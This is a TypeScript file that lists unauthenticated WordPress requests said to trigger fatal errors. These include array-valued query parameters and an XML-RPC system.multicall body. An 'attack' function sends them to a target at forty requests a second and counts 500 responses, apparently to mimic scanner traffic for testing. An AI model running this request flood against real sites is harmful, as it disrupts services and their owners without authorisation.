// Strangers who make WordPress itself fail, as scanners do by accident: odd input that needs no account.
import { setTimeout as sleep } from 'node:timers/promises'

const text = '<param><value><string>x</string></value></param>'
const methodCall = `<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params>${text}${text}</params></methodCall>`

/** Each ends in a fatal error of WordPress 7.1.1 alone. */
export const ODD: [path: string, body?: string][] = [
  ['/?author_name[]=x'],
  ['/?feed[]=x'],
  ['/wp-login.php?wp_lang[]=x'],
  ['/wp-links-opml.php?link_cat[]=1'],
  ['/?customize_changeset_uuid[]=x'],
  ['/?theme[]=x&wp_customize=on'],
  ['/xmlrpc.php', methodCall],
]
const everyMs = 25
/** Requests at once: a small host answers no more, and what waits would only delay the end. */
const atOnce = 10

export interface Attack {
  /** Answers with an error so far, by path. */
  errors: Map<string, number>
  /** Ends it; tells how many errors there were a second. */
  stop(): Promise<number>
}

/** Forty requests a second in turns, until it is stopped. `ways` are asked for at each turn: who knows the site changes them. */
export function attack(url: string, ways: () => typeof ODD): Attack {
  const errors = new Map<string, number>()
  const open = new Set<Promise<void>>()
  const began = performance.now()
  let sent = 0
  const send = async ([path, body]: [string, string?]) => {
    const answer = await fetch(url + path, body === undefined ? {} : { method: 'POST', body })
    await answer.arrayBuffer()
    if (answer.status === 500) errors.set(path, (errors.get(path) ?? 0) + 1)
  }
  let going = true
  const turns = (async () => {
    for (; going; await sleep(Math.max(0, began + sent * everyMs - performance.now()))) {
      const now = ways()
      const one: Promise<void> = send(now[sent++ % now.length] ?? ['/']).catch(() => undefined)
      open.add(one)
      void one.then(() => open.delete(one))
      if (open.size >= atOnce) await Promise.race(open)
    }
  })()
  const stop = async () => {
    going = false
    await turns
    await Promise.all(open)
    return [...errors.values()].reduce((sum, each) => sum + each, 0) / ((performance.now() - began) / 1000)
  }
  return { errors, stop }
}
